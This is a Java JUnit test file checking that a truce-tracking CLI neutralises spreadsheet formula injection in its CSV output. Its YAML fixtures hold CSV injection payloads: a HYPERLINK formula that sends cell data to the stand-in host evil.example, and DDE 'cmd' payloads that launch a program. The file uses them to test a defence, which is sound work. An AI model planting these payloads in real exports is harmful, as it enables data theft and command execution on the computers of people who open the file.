package dev.truce.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 16 item 10: CSV a spreadsheet opens must not run what the file says. Every text cell that starts with
 * =, +, - or @ gets a leading ', as OWASP advises; plain numbers (days left, negative once a deadline passed)
 * stay numbers.
 */
class CsvFormulaTest {
    @TempDir
    Path dir;

    private CliRunner cli;

    @BeforeEach
    void files() throws IOException {
        Files.writeString(dir.resolve("obligations.yaml"), """
                version: 1
                truce:
                  id: t-1
                  title: Test truce
                  parties: [US, CN]
                  effective: 2025-05-14T00:01-04:00
                  timezone: America/New_York
                  days: 90
                obligations:
                  - id: o-equals
                    title: "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"click\\")"
                    party: US
                    kind: other
                    due: 2025-06-01
                    owner: "=cmd|' /C calc'!A0"
                  - id: o-plus
                    title: "+1+cmd|' /C calc'!A0"
                    party: CN
                    kind: other
                    due: 2025-09-01
                  - id: o-minus
                    title: "-2+3"
                    party: US
                    kind: other
                  - id: o-at
                    title: "@SUM(1+1)*cmd|' /C calc'!A0"
                    party: CN
                    kind: other
                """);
        Files.writeString(dir.resolve("evidence.yaml"), """
                - obligation: o-equals
                  date: 2025-05-20
                  stance: complies
                  claimant: "=1+1"
                  basis: statement
                  source: "+SUM(A1:A9)"
                  note: "-1+1"
                - obligation: o-plus
                  date: 2025-05-21
                  stance: breaches
                  claimant: "@A1"
                  basis: data
                  source: "\\t=1+1"
                """);
        cli = new CliRunner(dir).at("2025-07-01T16:00:00Z");
    }

    @Test
    void statusCsvNeutralisesFormulasAndKeepsNumbers() {
        CliRunner.Result result = cli.run("status", "--format", "csv");
        assertEquals(0, result.exitCode(), result::toString);
        List<String> lines = result.out().lines().toList();
        assertTrue(lines.stream().anyMatch(l -> l.startsWith("o-equals,US,other,2025-06-02T00:00-04:00,2025-06-01,-30,"
                + "unresolved,complying,true,1,2025-05-20,'=cmd|' /C calc'!A0,,"
                + "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\"")), result.out());
        assertTrue(lines.stream().anyMatch(l -> l.startsWith("o-plus,CN,other,2025-09-02T00:00-04:00,2025-09-01,62,")
                && l.contains(",'+1+cmd|' /C calc'!A0")), result.out());
        assertTrue(lines.stream().anyMatch(l -> l.startsWith("o-minus,") && l.contains(",'-2+3")), result.out());
        assertTrue(lines.stream().anyMatch(l -> l.startsWith("o-at,") && l.contains(",'@SUM(1+1)*cmd|' /C calc'!A0")),
                result.out());
    }

    @Test
    void evidenceListCsvNeutralisesFormulas() {
        CliRunner.Result result = cli.run("evidence", "list", "--format", "csv");
        assertEquals(0, result.exitCode(), result::toString);
        assertEquals("""
                obligation,date,stance,claimant,basis,source,url,note,recorded,recorded_by,amount\r
                o-plus,2025-05-21,breaches,'@A1,data,'\t=1+1,,,,,\r
                o-equals,2025-05-20,complies,'=1+1,statement,'+SUM(A1:A9),,'-1+1,,,\r
                """, result.out());
    }
}
